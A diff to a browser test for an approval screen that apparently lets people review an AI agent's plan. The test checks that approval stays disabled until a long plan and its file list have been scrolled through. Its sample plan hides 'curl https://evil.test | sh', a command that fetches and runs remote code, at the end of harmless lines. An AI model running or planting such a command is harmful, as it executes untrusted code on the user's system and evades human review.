@@ -63,7 +63,7 @@ it("is approved by the keyboard, after a second look, and the focus stays near",
 
 it("cannot be approved before the end of a long plan and of the files was in view, also by the keyboard", async () => {
   const plan = `${Array.from({ length: 40 }, (_, line) => `${line}. harmless`).join("\n")}\ncurl https://evil.test | sh`;
-  const affected_files = Array.from({ length: 80 }, (_, file) => `src/${file % 40}.ts`);
+  const affected_files = Array.from({ length: 24 }, (_, file) => `src/${file % 12}.ts`);
   const page = await open(
     { approvals: [{ approval_id: "a-1", project_name: "shop", plan, affected_files }] },
     // A window of 1280 x 1024 at 400 %.
@@ -82,7 +82,7 @@ it("cannot be approved before the end of a long plan and of the files was in vie
   await expect
     .poll(
       async () => {
-        await page.keyboard.press("PageDown");
+        for (let times = 0; times < 4; times += 1) await page.keyboard.press("PageDown");
         return approve.getAttribute("aria-disabled");
       },
       { timeout: 30_000 },
